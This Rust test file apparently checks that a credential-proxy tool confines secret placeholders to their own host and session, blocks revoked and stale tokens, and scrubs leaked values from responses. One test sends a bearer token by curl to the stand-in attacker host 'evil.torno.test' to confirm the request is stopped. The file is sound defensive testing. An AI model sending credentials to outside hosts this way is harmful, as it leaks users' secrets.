// SPDX-License-Identifier: Apache-2.0
//! A placeholder is worth nothing but at its own endpoint, in its own session.

use crate::stage::at_each_level_for_both;
use std::io::Read;
use std::process::Stdio;

const ASK: &str = "curl -sS -o - -w ' %{http_code}\\n' -H \"authorization: Bearer $API_TOKEN\" ";

#[test]
fn another_granted_host_never_sees_the_credential() {
    at_each_level_for_both("another granted host", |stage, level| {
        let ran = stage.shell(level, &format!("{ASK} https://other.torno.test/public"));
        assert!(
            ran.stdout.contains("credential_endpoint_mismatch"),
            "{ran:?}"
        );
        assert!(ran.stdout.ends_with(" 403\n"), "{ran:?}");
        assert!(stage.world.other.journal.requests().is_empty());
    });
}

#[test]
fn a_host_that_was_not_granted_is_never_dialled() {
    at_each_level_for_both("a host that was not granted", |stage, level| {
        let ran = stage.shell(level, &format!("{ASK} https://evil.torno.test/"));
        assert!(ran.stdout.contains("host_not_granted"), "{ran:?}");
        assert!(stage.world.evil.journal.connections().is_empty());
    });
}

#[test]
fn a_placeholder_of_an_earlier_session_is_dead() {
    at_each_level_for_both("a placeholder of an earlier session", |stage, level| {
        let first = stage.shell(level, "printf %s \"$API_TOKEN\"").good().stdout;
        assert!(first.starts_with("sk-live-"), "{first}");
        let script = format!(
            "test \"$API_TOKEN\" != {first}; API_TOKEN={first}; {ASK} https://api.torno.test/v1/me"
        );
        let ran = stage.shell(level, &script);
        assert!(ran.stdout.contains("placeholder_unknown"), "{ran:?}");
        assert!(stage.world.api.journal.requests().is_empty());
    });
}

#[test]
fn a_revoked_credential_is_refused_at_once() {
    at_each_level_for_both("a revoked credential", |stage, level| {
        stage
            .shell(level, &format!("{ASK} https://api.torno.test/v1/me"))
            .good();
        stage.torno(&["secret", "revoke", "api"]).good();
        let before = stage.world.api.journal.requests().len();
        let ran = stage.shell(level, &format!("{ASK} https://api.torno.test/v1/me"));
        assert!(!ran.stdout.ends_with(" 200\n"), "{ran:?}");
        assert_eq!(stage.world.api.journal.requests().len(), before);
    });
}

#[test]
fn what_a_far_end_kept_from_an_earlier_session_is_scrubbed_before_it_was_used_in_this_one() {
    // ATTACK: 105
    at_each_level_for_both("kept from an earlier session", |stage, level| {
        let world = &stage.world;
        let kept = format!("{} {}", world.api_token, world.git_token);
        world.api_origin.keep(kept.as_bytes());
        let ran = stage
            .shell(level, "curl -sS https://api.torno.test/public/kept")
            .good();
        for token in [&world.api_token, &world.git_token] {
            assert!(!ran.stdout.contains(token.as_str()), "{ran:?}");
        }
        let (api, git) = ran.stdout.split_once(' ').unwrap();
        assert!(
            api.starts_with("sk-live-") && git.starts_with("ghp_"),
            "{ran:?}"
        );
        let record = stage
            .torno(&["audit", "export", "--format", "jsonl"])
            .good();
        assert_eq!(record.stdout.matches("credential_watched").count(), 2);
        assert!(!record.stdout.contains("credential_released"), "{record:?}");
    });
}

#[test]
fn a_value_that_is_new_while_an_answer_comes_never_comes_with_it() {
    // ATTACK: 101
    at_each_level_for_both("a new value in the middle of an answer", |stage, level| {
        stage.world.api_origin.keep(b"nothing yet");
        let script = "curl -sSN https://api.torno.test/public/late";
        let mut run = stage.daemon.run_command(level, &["/bin/sh", "-c", script]);
        run.stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut run = run.spawn().unwrap();
        let mut first = [0; 11];
        run.stdout.as_mut().unwrap().read_exact(&mut first).unwrap();
        assert_eq!(&first, b"nothing yet");
        let rotated = "sk-live-rotatedROTATEDrotated0123456789";
        stage.daemon.rotate("api", rotated).unwrap();
        stage.world.api_origin.keep(rotated.as_bytes());
        let ran = stage.hear(&run.wait_with_output().unwrap());
        assert!(!ran.stdout.contains("rotatedROTATED"), "{ran:?}");
        // The stream was cut; the next answer is searched for the new value.
        let ran = stage
            .shell(level, "curl -sS https://api.torno.test/public/kept")
            .good();
        assert!(ran.stdout.starts_with("sk-live-TRNO"), "{ran:?}");
    });
}
